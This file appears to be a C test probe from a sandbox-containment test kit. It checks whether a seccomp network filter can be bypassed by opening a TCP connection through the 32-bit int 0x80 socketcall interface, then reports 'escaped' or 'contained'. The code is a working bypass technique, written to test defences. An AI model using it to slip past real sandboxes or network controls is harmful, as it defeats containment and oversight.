// Goal:    open a TCP connection with the 32-bit socketcall
// Models:  32-bit ABI (socketcall) bypass of a seccomp network filter
// Oracle:  hit tcp4
// Tier:    core
// Needs:   x86
#include "ctk.h"
static long i80(long n, long a, long b, long c) {
    long r;
    __asm__ volatile("int $0x80" : "=a"(r) : "a"(n), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
    return (int)r;
}
int main(int c, char **v) {
    ctk_init(c, v);
    char *p = mmap(0, 8192, 3, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    uint32_t *a = (void *)p;
    a[0] = AF_INET;
    a[1] = SOCK_STREAM;
    a[2] = 0;
    long k = i80(102, 1, (long)a, 0);
    if (k < 0) {
        k = i80(359, AF_INET, SOCK_STREAM, 0);
        if (k < 0)
            contained("int80 socket: %s", strerror(-k));
    }
    struct sockaddr_in *s = (void *)(p + 1024);
    s->sin_family = AF_INET;
    s->sin_port = htons(atoi(conf("TCP4")));
    s->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    a[0] = k;
    a[1] = (uint32_t)(uintptr_t)s;
    a[2] = 16;
    long r = i80(102, 3, (long)a, 0);
    if (r < 0)
        contained("int80 connect: %s", strerror(-r));
    int n = snprintf(p + 2048, 200, "CTK %s\n", NONCE);
    r = i80(4, k, (long)(p + 2048), n);
    if (r < 0)
        contained("int80 write: %s", strerror(-r));
    usleep(200000);
    escaped("int80 socketcall connected");
}
